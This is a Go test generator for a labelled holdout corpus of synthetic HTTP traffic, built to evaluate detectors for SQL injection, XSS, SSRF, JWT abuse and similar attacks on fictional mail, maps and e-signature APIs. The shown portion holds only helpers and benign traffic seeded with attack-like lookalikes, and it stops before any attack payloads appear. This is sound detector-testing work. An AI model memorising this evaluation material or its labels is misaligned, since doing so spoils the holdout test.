// Holdout corpus 9: an independent labelled corpus for the eight stateless technique detectors, written from
// docs/detect.md and docs/traffic-format.md only (neither the detectors' code nor any other corpus was read).
//
// Three APIs:
//   - api.mailflare.test: an email marketing platform (lists and members with merge fields, templates with merge
//     tags, campaigns, segments, inbound-mail webhooks);
//   - maps.geonav.test: a maps and geocoding API (geocoding, places, routing, tiles, GPX/KML uploads, a proxy for
//     partner map layers);
//   - api.signdesk.test: an e-signature / document workflow API (envelopes, documents and uploads, signers,
//     callbacks, PDF rendering from URLs and HTML).
//
// Its emphasis is evasion: attacks as a patient tester writes them after a WAF blocked the obvious ones (encodings,
// parameter pollution, payloads at depth, XML entity escapes, Unicode hosts, template injection through merge tags,
// JWT header tricks), beside benign traffic made hard (merge tags, quotes in place names, HTML sent for rendering,
// public URLs of every shape). Each benign user keeps one User-Agent and one or two networks.
//
// Regenerate with:
//
//	go test ./detect/ -run TestHoldout9Generate -update-holdout9
package detect_test

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand/v2"
	"net/http"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

var updateHoldout9 = flag.Bool("update-holdout9", false, "rewrite detect/testdata/holdout9 from its generator")

const (
	h9SQLi  = "detect.injection.sqli"
	h9XSS   = "detect.injection.xss"
	h9Other = "detect.injection.other"
	h9SSRF  = "detect.ssrf"
	h9JWT   = "detect.auth.jwt"
	h9Verb  = "detect.misconfig.verbose"
	h9Sens  = "detect.exposure.sensitive"
	h9Lim   = "detect.resource.limits"

	h9Mail = "https://api.mailflare.test"
	h9Maps = "https://maps.geonav.test"
	h9Sign = "https://api.signdesk.test"
)

var (
	h9Base   = time.Date(2026, 11, 20, 9, 0, 0, 0, time.UTC)
	h9Key    = []byte("h9-corpus-hs256-signing-key-not-a-real-secret-0001")
	h9Issued = h9Base.Add(-2 * time.Hour)
	h9Expiry = h9Base.Add(72 * time.Hour)
)

type h9User struct {
	sub, name, email, role, tenant string
	ua                             string
	ips                            []string
	token                          string
	n                              int
}

type h9X struct {
	u      *h9User
	method string
	url    string
	hdr    [][2]string
	body   string
	size   int // body_size when larger than body (truncated capture)
	status int
	rhdr   [][2]string
	rbody  string
	rb64   bool
	auth   string // "" = user's bearer token; "-" = none; anything else = the Authorization value
	labels []string
}

func h9B64(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }

func h9JSON(v any) string {
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		panic(err)
	}
	return strings.TrimSuffix(buf.String(), "\n")
}

// h9Token signs header and claims (given as JSON text, so their order is fixed) with HS256.
func h9Token(header, claims string) string {
	s := h9B64([]byte(header)) + "." + h9B64([]byte(claims))
	m := hmac.New(sha256.New, h9Key)
	m.Write([]byte(s))
	return s + "." + h9B64(m.Sum(nil))
}

func h9Claims(u *h9User, iat, nbf, exp time.Time, extra string) string {
	c := fmt.Sprintf(`{"iss":"https://auth.%s","sub":"%s","aud":"%s","tenant":"%s","role":"%s","iat":%d,"nbf":%d,"exp":%d`,
		"accounts.test", u.sub, "public-api", u.tenant, u.role, iat.Unix(), nbf.Unix(), exp.Unix())
	if extra != "" {
		c += "," + extra
	}
	return c + "}"
}

func h9ValidToken(u *h9User) string {
	return h9Token(`{"alg":"HS256","typ":"JWT","kid":"2026-03-key_1"}`, h9Claims(u, h9Issued, h9Issued, h9Expiry, ""))
}

// h9Luhn completes a card number prefix with its check digit.
func h9Luhn(prefix string) string {
	sum := 0
	double := true
	for i := len(prefix) - 1; i >= 0; i-- {
		d := int(prefix[i] - '0')
		if double {
			d *= 2
			if d > 9 {
				d -= 9
			}
		}
		sum += d
		double = !double
	}
	return prefix + string(rune('0'+(10-sum%10)%10))
}

func h9Hex(r *rand.Rand, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.IntN(256))
	}
	return hex.EncodeToString(b)
}

func h9ID(r *rand.Rand, prefix string, n int) string {
	const al = "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
	b := make([]byte, n)
	for i := range b {
		b[i] = al[r.IntN(len(al))]
	}
	return prefix + string(b)
}

func h9UUID(r *rand.Rand) string {
	h := h9Hex(r, 16)
	return h[0:8] + "-" + h[8:12] + "-4" + h[13:16] + "-a" + h[17:20] + "-" + h[20:32]
}

func h9Pick[T any](r *rand.Rand, s []T) T { return s[r.IntN(len(s))] }

func h9Q(s string) string { return url.QueryEscape(s) }

type h9Line struct {
	ID       string    `json:"id"`
	Time     string    `json:"time"`
	Client   h9Client  `json:"client"`
	Request  h9Msg     `json:"request"`
	Response *h9RespJS `json:"response,omitempty"`
	Duration float64   `json:"duration_ms"`
}

type h9Client struct {
	Addr string            `json:"addr"`
	TLS  map[string]string `json:"tls,omitempty"`
}

type h9Msg struct {
	Method    string              `json:"method"`
	URL       string              `json:"url"`
	Proto     string              `json:"proto"`
	Headers   map[string][]string `json:"headers"`
	Body      string              `json:"body,omitempty"`
	BodySize  int                 `json:"body_size"`
	Truncated bool                `json:"truncated,omitempty"`
}

type h9RespJS struct {
	Status       int                 `json:"status"`
	Proto        string              `json:"proto"`
	Headers      map[string][]string `json:"headers"`
	Body         string              `json:"body,omitempty"`
	BodyEncoding string              `json:"body_encoding,omitempty"`
	BodySize     int                 `json:"body_size"`
}

func TestHoldout9Generate(t *testing.T) {
	r := rand.New(rand.NewPCG(9, 2026))
	g := &h9Gen{r: r}
	g.users()
	benign := g.benign(1262)
	attacks := g.attacks()
	all := append(benign, attacks...)
	r.Shuffle(len(all), func(i, j int) { all[i], all[j] = all[j], all[i] })

	var traffic, labels bytes.Buffer
	at := h9Base
	counts := map[string]int{}
	nBenign := 0
	for i, x := range all {
		at = at.Add(time.Duration(400+r.IntN(2600)) * time.Millisecond)
		id := fmt.Sprintf("q%05d", i+1)
		line := g.render(t, x, id, at)
		traffic.WriteString(h9JSON(line) + "\n")
		ls := x.labels
		if ls == nil {
			ls = []string{}
			nBenign++
		}
		for _, l := range ls {
			counts[l]++
		}
		labels.WriteString(h9JSON(struct {
			ID        string   `json:"id"`
			Detectors []string `json:"detectors"`
		}{id, ls}) + "\n")
	}
	t.Logf("total %d benign %d", len(all), nBenign)
	for _, d := range []string{h9SQLi, h9XSS, h9Other, h9SSRF, h9JWT, h9Verb, h9Sens, h9Lim} {
		t.Logf("%-28s %d", d, counts[d])
		if counts[d] < 60 {
			t.Errorf("%s: only %d attacks", d, counts[d])
		}
	}
	writeOrCheckCorpus(t, filepath.Join("testdata", "holdout9"), *updateHoldout9, "go test ./detect/ -run TestHoldout9Generate -update-holdout9", traffic.Bytes(), labels.Bytes())
}

type h9Gen struct {
	r       *rand.Rand
	mail    []*h9User
	maps    []*h9User
	sign    []*h9User
	att     []*h9User
	inbound *h9User
	lists   []string
	envs    []string
	nthByIP map[*h9User]int
}

func (g *h9Gen) render(t *testing.T, x h9X, id string, at time.Time) h9Line {
	t.Helper()
	if _, err := url.Parse(x.url); err != nil {
		t.Fatalf("%s: bad url %q: %v", id, x.url, err)
	}
	u := x.u
	u.n++
	ip := u.ips[0]
	if len(u.ips) > 1 && u.n%4 == 0 {
		ip = u.ips[1]
	}
	h := map[string][]string{}
	add := func(k, v string) {
		k = http.CanonicalHeaderKey(k)
		h[k] = append(h[k], v)
	}
	pu, _ := url.Parse(x.url)
	has := func(k string) bool {
		for _, kv := range x.hdr {
			if strings.EqualFold(kv[0], k) {
				return true
			}
		}
		return false
	}
	add("Host", pu.Host)
	if !has("Accept") {
		add("Accept", "application/json")
	}
	if !has("User-Agent") {
		add("User-Agent", u.ua)
	}
	switch x.auth {
	case "":
		add("Authorization", "Bearer "+u.token)
	case "-":
	default:
		add("Authorization", x.auth)
	}
	for _, kv := range x.hdr {
		add(kv[0], kv[1])
	}
	if x.body != "" && !has("Content-Type") {
		add("Content-Type", "application/json")
	}
	size := len(x.body)
	if x.size > size {
		size = x.size
	}
	req := h9Msg{Method: x.method, URL: x.url, Proto: "HTTP/2.0", Headers: h, Body: x.body, BodySize: size, Truncated: x.size > len(x.body)}
	rh := map[string][]string{}
	radd := func(k, v string) {
		k = http.CanonicalHeaderKey(k)
		rh[k] = append(rh[k], v)
	}
	ctype := "application/json; charset=utf-8"
	cache := "no-store"
	for _, kv := range x.rhdr {
		if strings.EqualFold(kv[0], "Content-Type") {
			ctype = kv[1]
			continue
		}
		if strings.EqualFold(kv[0], "Cache-Control") {
			cache = kv[1]
			continue
		}
		radd(kv[0], kv[1])
	}
	radd("Content-Type", ctype)
	radd("Date", at.Add(40*time.Millisecond).Format(http.TimeFormat))
	radd("X-Request-Id", h9UUID(g.r))
	radd("Cache-Control", cache)
	radd("X-Content-Type-Options", "nosniff")
	radd("Strict-Transport-Security", "max-age=63072000")
	resp := &h9RespJS{Status: x.status, Proto: "HTTP/2.0", Headers: rh, Body: x.rbody, BodySize: len(x.rbody)}
	if x.rb64 {
		raw, _ := base64.StdEncoding.DecodeString(x.rbody)
		resp.BodyEncoding = "base64"
		resp.BodySize = len(raw)
	}
	port := 40000 + g.r.IntN(20000)
	return h9Line{
		ID:   id,
		Time: at.Format("2006-01-02T15:04:05.000Z"),
		Client: h9Client{Addr: fmt.Sprintf("%s:%d", ip, port), TLS: map[string]string{
			"version": "1.3", "cipher_suite": "TLS_AES_128_GCM_SHA256", "server_name": pu.Hostname(), "alpn": "h2"}},
		Request:  req,
		Response: resp,
		Duration: float64(8+g.r.IntN(400)) + float64(g.r.IntN(10))/10,
	}
}

func (g *h9Gen) users() {
	mk := func(sub, name, email, role, tenant, ua string, ips ...string) *h9User {
		u := &h9User{sub: sub, name: name, email: email, role: role, tenant: tenant, ua: ua, ips: ips}
		u.token = h9ValidToken(u)
		return u
	}
	g.mail = []*h9User{
		mk("usr_7Qd2mLx", "Ines Carvalho", "ines@bakery-lisboa.example", "owner", "t_bakery", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15", "198.51.100.23", "172.58.14.9"),
		mk("usr_K2pW9sa", "Tom O'Connell", "tom@oconnell-outdoors.example", "editor", "t_outdoors", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "203.0.113.41"),
		mk("usr_Zr81cYe", "Priya Raman", "priya@kettle-co.example", "admin", "t_kettle", "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0", "192.0.2.77", "198.51.100.140"),
		mk("svc_crmsync", "CRM sync", "ops@kettle-co.example", "integration", "t_kettle", "mailflare-python/4.2.0 (+requests/2.32.3)", "34.120.18.201"),
		mk("usr_p4Hn0Ta", "Lukas Brenner", "lukas@brenner-verlag.example", "editor", "t_verlag", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36", "203.0.113.88"),
		mk("usr_m3Gq8Rb", "Aiko Tanaka", "aiko@tanaka-ceramics.example", "owner", "t_ceramics", "Mozilla/5.0 (iPad; CPU OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1", "198.51.100.201", "100.24.7.90"),
		mk("svc_zapier", "Automation", "hooks@brenner-verlag.example", "integration", "t_verlag", "Zapier", "54.86.50.139"),
	}
	g.maps = []*h9User{
		mk("app_fleetly", "Fleetly dispatch", "dev@fleetly.example", "developer", "t_fleetly", "fleetly-dispatch/3.14.2 okhttp/4.12.0", "35.190.27.12", "35.190.27.44"),
		mk("app_hikebook", "Hikebook", "api@hikebook.example", "developer", "t_hikebook", "Hikebook/7.2 (iPhone; iOS 18.1; Scale/3.00)", "198.51.100.61"),
		mk("usr_Dk3mZ2q", "Mateo Ruiz", "mateo@rutas-sur.example", "developer", "t_rutas", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0", "203.0.113.150"),
		mk("app_storefind", "Storefinder widget", "web@kettle-co.example", "developer", "t_storefind", "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.39 Mobile Safari/537.36", "192.0.2.180", "172.56.21.3"),
		mk("usr_Wq7sPn1", "Grace Mbeki", "grace@capeproperty.example", "developer", "t_cape", "geonav-js/2.8.1 Node.js/22.11.0", "102.65.44.8"),
		mk("app_parkr", "Parkr backend", "eng@parkr.example", "developer", "t_parkr", "Go-http-client/2.0", "34.102.136.180"),
		mk("usr_Hn4bLq8", "Sven Lindqvist", "sven@nordkart.example", "admin", "t_nordkart", "QGIS/3.38.3-Grenoble", "198.51.100.99"),
	}
	g.sign = []*h9User{
		mk("usr_Lq2Vn8x", "Rachel Adeyemi", "rachel@adeyemi-law.example", "sender", "t_adeyemi", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "203.0.113.12"),
		mk("svc_hrflow", "HR onboarding", "it@northwind-hr.example", "integration", "t_northwind", "signdesk-java/6.0.1 (Java 21.0.5)", "52.14.201.77", "52.14.201.78"),
		mk("usr_Fa9cE1m", "François Dubé", "francois@dube-notaires.example", "sender", "t_dube", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0", "192.0.2.34"),
		mk("usr_Bx5tQ0k", "Mei Chen", "mei@harbor-realty.example", "admin", "t_harbor", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1", "198.51.100.7", "172.59.200.14"),
		mk("svc_salesops", "Sales ops", "salesops@acme-widgets.example", "integration", "t_acme", "node-fetch/3.3.2 (+https://github.com/node-fetch/node-fetch)", "3.91.40.12"),
		mk("usr_Ju2dR7w", "Jakub Nowak", "jakub@nowak-partners.example", "sender", "t_nowak", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0", "203.0.113.201"),
		mk("usr_Ck8Yp3s", "Olivia Grant", "olivia@grant-events.example", "sender", "t_grant", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15", "192.0.2.119"),
	}
	g.att = []*h9User{
		mk("usr_Ev1lTs0", "Test Account", "qa.tester@protonmail.example", "editor", "t_trial42", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "185.220.101.47"),
		mk("usr_Ax9Rq2z", "R. Moss", "rmoss@mailbox.example", "sender", "t_trial57", "curl/8.11.0", "45.137.21.9"),
		mk("app_x7probe", "probe app", "probe@tutanota.example", "developer", "t_trial63", "python-requests/2.32.3", "91.219.236.18"),
		mk("usr_Hx0Dd4n", "Dana Holt", "dholt@fastmail.example", "owner", "t_trial71", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36", "194.26.192.64"),
		mk("app_k3scan", "scan", "k3@mailbox.example", "developer", "t_trial80", "Go-http-client/1.1", "103.251.167.20"),
	}
	g.inbound = mk("svc_inbound", "Mailflare inbound relay", "relay@mailflare.test", "system", "t_system", "Mailflare-Inbound/1.0", "3.120.55.18")
	for i := 0; i < 12; i++ {
		g.lists = append(g.lists, h9ID(g.r, "lst_", 10))
		g.envs = append(g.envs, h9UUID(g.r))
	}
}

// Benign data: values that look like attacks but are not.
var (
	h9FirstNames = []string{"Ana", "Ben", "Chloé", "D'Andre", "Émile", "Fatima", "Giorgio", "Hana", "Ivan", "Jo-Ann", "Kwame", "Léa", "Maëlle", "Niamh", "O'Shea", "Paulo", "Quinn", "Rosa", "Søren", "Tomás", "Zoë"}
	h9LastNames  = []string{"O'Brien", "D'Souza", "McAllister", "Nguyen", "Müller", "García-López", "Smith-Jones", "Ó Súilleabháin", "van der Berg", "Select", "Union", "Drop", "Null", "DeLete", "Kowalczyk", "Al-Farsi"}
	h9Companies  = []string{"O'Reilly Media", "Ben & Jerry's", "AT&T Business", "Union Jack Flags Ltd", "Select Comfort", "Drop Table Furniture Co.", "1=1 Consulting", "<Acme> Widgets", "Kettle & Co.", "Smith, Barney & Sons", "L'Oréal Paris", "Toys \"R\" Us", "Café Überlin", "Null Island Surf Shop", "Sleep Number", "Order By Design"}
	h9Subjects   = []string{
		"Don't miss out -- 30% off ends tonight",
		"Select your favourite blend ☕",
		"Our union with Kettle & Co. is official!",
		"{{first_name}}, your cart misses you",
		"*|FNAME|*, here's what's new in spring",
		"1=1 tips for better onboarding",
		"Last call: drop-in workshop on Friday",
		"You're in! Confirm your seat 👉",
		"Q3 results: revenue > forecast & churn < 2%",
		"O'Brien's picks for the weekend",
		"Re: the \"OR\" clause in our contract",
		"{% if first_name %}Hi {{ first_name }}{% else %}Hi there{% endif %} - welcome",
		"Where to next? Our <b>summer</b> routes",
		"Reminder: sleep(8) hours, hydrate, repeat",
		"Exception-al offers for exceptional people",
		"Hello %%FirstName%%, your invoice is ready",
	}
	h9Merge   = []string{"{{first_name}}", "{{ first_name | capitalize }}", "*|FNAME|*", "*|LNAME|*", "%%Company%%", "{{contact.city}}", "[[unsubscribe_url]]", "{{ order.total | money }}", "${first_name}", "{first_name|fallback:\"friend\"}", "{{#if vip}}VIP{{/if}}", "{$subscriber.email}", "{{ 'now' | date: '%Y' }}"}
	h9Queries = []string{
		"1600 Amphitheatre Pkwy, Mountain View, CA",
		"Rue de l'Église 12, 1000 Bruxelles",
		"O'Hare International Airport",
		"\"Joe's Crab Shack\" near Pier 39",
		"Union Square, San Francisco",
		"Select Citywalk, Saket, New Delhi",
		"221B Baker St, London NW1 6XE",
		"Straße des 17. Juni 135, Berlin",
		"Avenida 9 de Julio & Corrientes",
		"C/ Mayor, 1 - 3º izq., 28013 Madrid",
		"Champ-de-Mars, 5 Av. Anatole France",
		"1 Infinite Loop; Cupertino",
		"Drop Off Point #4, Terminal 2",
		"Rock'n'Roll Hall of Fame",
		"Pizza 'n' Pasta -- Main St",
		"東京都千代田区丸の内1-9-1",
		"Null Island",
		"45°29'52.0\"N 9°11'23.6\"E",
		"Hôtel de Ville / Paris",
		"St. John's, NL A1C",
		"Bar & Grill <Downtown>",
		"Sleepy Hollow Rd",
		"Ōtsu-shi; Shiga",
		"Cat & Dog Grooming, 3rd Ave",
		"Exit 14 -- I-95 N",
		"1 OR 2 bedroom apartments near me",
	}
	h9PublicURLs = []string{
		"https://tiles.partner-weather.example/radar/{z}/{x}/{y}.png",
		"https://s3.eu-west-1.amazonaws.com/geonav-public-layers/parks/{z}/{x}/{y}.pbf",
		"https://8.8.8.8/",
		"https://storage.googleapis.com/nordkart-tiles/hillshade/{z}/{x}/{y}.webp",
		"https://tile.openstreetmap.org/{z}/{x}/{y}.png",
		"https://[2606:4700:4700::1111]/dns-query",
		"https://cdn.jsdelivr.net/npm/@geonav/styles@2.1.0/dark.json",
		"https://api.weather.example:8443/v2/overlays/wind?units=metric",
		"https://medium.com/@fleetly/how-we-route-1m-deliveries-4c1f8e2a",
		"https://user:@example.org/",
		"https://maps.nordkart.example/wms?SERVICE=WMS&REQUEST=GetMap&LAYERS=roads",
		"https://1.1.1.1/help",
		"https://localhost-tutorial.example.com/docs",
		"https://internal-tools.example.com/roadworks.geojson",
		"https://example.com/redirect?to=https%3A%2F%2Fexample.org%2F",
		"https://blob.core.windows.net.example/layers/traffic.json",
	}
	h9CallbackURLs = []string{
		"https://hooks.adeyemi-law.example/signdesk/events",
		"https://api.northwind-hr.example/webhooks/esign?source=signdesk",
		"https://hooks.zapier.com/hooks/catch/1234567/abcdef/",
		"https://eo4x8f2k9s1m.m.pipedream.net",
		"https://acme-widgets.my.salesforce.com/services/apexrest/signdesk/callback",
		"https://webhook.site/2f0c7e1a-6d3b-4c55-9a8e-7f21b9d0c4aa",
		"https://grant-events.example:8443/callbacks/signdesk",
		"https://n8n.harbor-realty.example/webhook/3b1f9c2d",
	}
	h9RenderURLs = []string{
		"https://www.adeyemi-law.example/templates/engagement-letter.html",
		"https://docs.google.com/document/d/1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789/export?format=pdf",
		"https://raw.githubusercontent.com/northwind-hr/policies/main/handbook.md",
		"https://s3.us-east-1.amazonaws.com/acme-contracts-public/msa-v4.html",
		"https://harbor-realty.example/listings/4411/disclosure?lang=en&print=1",
		"https://en.wikipedia.org/wiki/Electronic_signature",
		"https://www.gov.uk/government/publications/electronic-signatures",
		"https://93.184.215.14/contracts/sample.html",
	}
	h9Notes = []string{
		"Please select the union of both lists before sending; drop anyone who unsubscribed.",
		"Tested on localhost first, looks fine in Outlook and Gmail.",
		"Use `git log | head` to find when the footer changed.",
		"The dev said the error was a NullPointerException in their CRM, not on our side.",
		"Contract ref 2024/07 -- signed by both parties; see ../README.md for the checklist.",
		"Price went from $10 to ${price} in the preview, fixed the merge tag.",
		"cat; dog toys campaign goes out Tuesday",
		"If (opens >= 3 && !contact.unsubscribed) move to VIP segment.",
		"Traceback of the customer journey: ad -> landing page -> signup -> first order.",
		"Run `ls -la` in the export folder and send me the file names.",
		"Config lives in /etc/nginx/nginx.conf on their side, nothing for us to do.",
		"<b>Bold</b> headline looks great, 2 > 1 variants tested.",
		"Ask O'Brien whether 'OR' means either party may terminate.",
		"SELECT chair from the catalogue: the oak one, not the union jack one.",
	}
)

func (g *h9Gen) name() (string, string) {
	return h9Pick(g.r, h9FirstNames), h9Pick(g.r, h9LastNames)
}

func (g *h9Gen) ok(body string) (int, string) { return 200, body }

func h9WithHdr(x h9X, kv ...string) h9X {
	for i := 0; i+1 < len(kv); i += 2 {
		x.hdr = append(x.hdr, [2]string{kv[i], kv[i+1]})
	}
	return x
}

func (g *h9Gen) benign(n int) []h9X {
	var out []h9X
	type sc func() h9X
	scen := []sc{
		g.bMailLists, g.bMailMembers, g.bMailAddMember, g.bMailTemplate, g.bMailTemplateGet, g.bMailCampaign,
		g.bMailCampaignList, g.bMailReport, g.bMailSegment, g.bMailInbound, g.bMailTestSend, g.bMailExpired,
		g.bMailCORS, g.bMailOAuth, g.bMailError,
		g.bMapsGeocode, g.bMapsReverse, g.bMapsPlaces, g.bMapsPlace, g.bMapsRoute, g.bMapsTile, g.bMapsProxy,
		g.bMapsCustomPlace, g.bMapsGPX, g.bMapsAutocomplete, g.bMapsMatrix, g.bMapsStyle, g.bMapsGeocode,
		g.bSignEnvelope, g.bSignList, g.bSignGet, g.bSignUpload, g.bSignRenderURL, g.bSignRenderHTML, g.bSignCallback,
		g.bSignAudit, g.bSignTemplate, g.bSignVoid, g.bSignDownload, g.bSignUploadURL, g.bSignPayment, g.bSignExpired,
		g.bSignEnvelope, g.bMailMembers, g.bMailLinks, g.bSignOAuth, g.bMailRelay, g.bMailLinks,
	}
	for len(out) < n {
		out = append(out, scen[len(out)%len(scen)]())
	}
	return out
}

func (g *h9Gen) mu() *h9User { return h9Pick(g.r, g.mail) }
func (g *h9Gen) gu() *h9User { return h9Pick(g.r, g.maps) }
func (g *h9Gen) su() *h9User { return h9Pick(g.r, g.sign) }

func (g *h9Gen) bMailLists() h9X {
	u := g.mu()
	page := 1 + g.r.IntN(5)
	per := h9Pick(g.r, []int{25, 50, 100, 250, 500, 1000})
	var items []string
	for i := 0; i < 3; i++ {
		items = append(items, h9JSON(map[string]any{"id": h9Pick(g.r, g.lists), "name": h9Pick(g.r, []string{"Newsletter", "VIP customers", "Union members 2026", "Select tier", "Drop-shipping partners", "O'Brien family & friends"}), "member_count": g.r.IntN(40000), "double_opt_in": g.r.IntN(2) == 1}))
	}
	return h9X{u: u, method: "GET", url: fmt.Sprintf("%s/v3/lists?page=%d&per_page=%d&sort=-created_at", h9Mail, page, per), status: 200,
		rbody: fmt.Sprintf(`{"data":[%s],"page":%d,"per_page":%d,"total_pages":%d}`, strings.Join(items, ","), page, per, 3+g.r.IntN(9))}
}

func (g *h9Gen) bMailMembers() h9X {
	u := g.mu()
	q := h9Pick(g.r, []string{"status=subscribed&limit=200", "status=unsubscribed&limit=100&since=2026-10-01T00%3A00%3A00Z", "search=" + h9Q(h9Pick(g.r, h9LastNames)) + "&limit=20", "tag=" + h9Q("black friday '26") + "&limit=50", "cursor=" + h9ID(g.r, "c_", 32) + "&limit=500", "fields=email,merge_fields.FNAME,status&count=1000", "filter%5Bcountry%5D%5B%24in%5D=DE&filter%5Bopens%5D%5B%24gt%5D=3"})
	f, l := g.name()
	return h9X{u: u, method: "GET", url: fmt.Sprintf("%s/v3/lists/%s/members?%s", h9Mail, h9Pick(g.r, g.lists), q), status: 200,
		rbody: h9JSON(map[string]any{"members": []any{map[string]any{"id": h9Hex(g.r, 16), "email_hash": h9Hex(g.r, 16), "email": strings.ToLower(strings.NewReplacer("'", "", " ", "").Replace(f+"."+l)) + "@example.net", "merge_fields": map[string]string{"FNAME": f, "LNAME": l, "COMPANY": h9Pick(g.r, h9Companies)}, "status": "subscribed"}}, "next_cursor": h9ID(g.r, "c_", 32)})}
}

func (g *h9Gen) bMailAddMember() h9X {
	u := g.mu()
	f, l := g.name()
	body := h9JSON(map[string]any{"email_address": strings.ToLower(strings.NewReplacer("'", "", " ", "", "é", "e", "ë", "e", "ø", "o", "á", "a", "Ó", "o", "ü", "u").Replace(f+"."+l)) + "@example.org", "status": "pending", "merge_fields": map[string]any{"FNAME": f, "LNAME": l, "COMPANY": h9Pick(g.r, h9Companies), "ADDRESS": map[string]string{"addr1": h9Pick(g.r, h9Queries), "country": "US"}, "NOTES": h9Pick(g.r, h9Notes)}, "tags": []string{h9Pick(g.r, []string{"select", "union", "drop-in", "vip", "or-else", "<3 fans", "1=1"})}})
	return h9X{u: u, method: "POST", url: fmt.Sprintf("%s/v3/lists/%s/members", h9Mail, h9Pick(g.r, g.lists)), body: body, status: 201,
		rbody: fmt.Sprintf(`{"id":"%s","status":"pending","confirmation_sent":true}`, h9Hex(g.r, 16))}
}

var h9TemplateHTML = []string{
	`<!doctype html><html><head><meta charset="utf-8"><style>.btn{background:#0a7;color:#fff;padding:12px 20px}</style></head><body><table width="600" role="presentation"><tr><td><h1>Hi {{first_name}},</h1><p>Your order #{{order.number}} ships today.</p><a class="btn" href="{{tracking_url}}">Track it</a><p style="font-size:11px"><a href="{{unsubscribe_url}}">Unsubscribe</a></p></td></tr></table></body></html>`,
	`<html><body><p>Hello *|FNAME|*,</p><p>We picked <strong>3 new blends</strong> for you &mdash; select one before Friday.</p><img src="https://cdn.mailflare.test/u/t_kettle/hero.jpg" alt="Kettle &amp; Co. hero" width="600"><p><a href="*|UNSUB|*">Unsubscribe</a> | <a href="*|UPDATE_PROFILE|*">Update preferences</a></p></body></html>`,
	`<div>{% if subscriber.plan == "pro" %}<p>Thanks for being a Pro member, {{ subscriber.first_name | default: "friend" }}!</p>{% else %}<p>Upgrade to Pro and save 20%.</p>{% endif %}<p>{{ 'now' | date: "%B %Y" }} newsletter</p></div>`,
	`<p>Dear %%FirstName%% %%LastName%%,</p><p>Your webinar "Handling NullPointerException in legacy code" starts at 10:00.</p><p><a href="https://zoom.us/j/98765432101?pwd=webinar">Join</a></p>`,
	`<mjml><mj-body><mj-section><mj-column><mj-text>Hi {{contact.first_name}}, the union of our two catalogues is live.</mj-text><mj-button href="https://shop.kettle-co.example/new?utm_source=mailflare&amp;utm_campaign={{campaign.id}}">Shop now</mj-button></mj-column></mj-section></mj-body></mjml>`,
	`<table><tr><td>{{#each items}}<tr><td>{{this.name}}</td><td>{{this.qty}} x {{this.price}}</td></tr>{{/each}}</td></tr></table><p>Total: ${order.total}</p><p style="color:#999">If this email doesn't display, <a href="{{web_version_url}}">view it online</a>.</p>`,
	`<p>Hi {{first_name}}, here is the snippet from the workshop:</p><pre><code>SELECT name, COUNT(*) FROM orders GROUP BY name ORDER BY 2 DESC;</code></pre><p>And the shell one-liner: <code>cat orders.csv | sort | uniq -c</code></p>`,
}

func (g *h9Gen) bMailTemplate() h9X {
	u := g.mu()
	body := h9JSON(map[string]any{"name": h9Pick(g.r, []string{"Welcome series #1", "Cart reminder (v2)", "Webinar: \"Exceptions\"", "Q4 <promo>", "O'Connell spring drop"}), "subject": h9Pick(g.r, h9Subjects), "html": h9Pick(g.r, h9TemplateHTML), "text": "Hi " + h9Pick(g.r, h9Merge) + ", view this email online: {{web_version_url}}", "preheader": h9Pick(g.r, h9Subjects)})
	m := "POST"
	path := "/v3/templates"
	st := 201
	if g.r.IntN(3) == 0 {
		m, path, st = "PUT", "/v3/templates/tpl_"+h9ID(g.r, "", 8), 200
	}
	return h9X{u: u, method: m, url: h9Mail + path, body: body, status: st, rbody: fmt.Sprintf(`{"id":"tpl_%s","version":%d,"merge_tags_found":["first_name","unsubscribe_url"]}`, h9ID(g.r, "", 8), 1+g.r.IntN(9))}
}

func (g *h9Gen) bMailTemplateGet() h9X {
	u := g.mu()
	return h9X{u: u, method: "GET", url: h9Mail + "/v3/templates/tpl_" + h9ID(g.r, "", 8) + "?include=html,stats", status: 200,
		rbody: h9JSON(map[string]any{"id": "tpl_" + h9ID(g.r, "", 8), "subject": h9Pick(g.r, h9Subjects), "html": h9Pick(g.r, h9TemplateHTML), "etag": h9Hex(g.r, 20), "hash": h9Hex(g.r, 32), "stats": map[string]any{"sent": g.r.IntN(90000), "open_rate": 0.41}})}
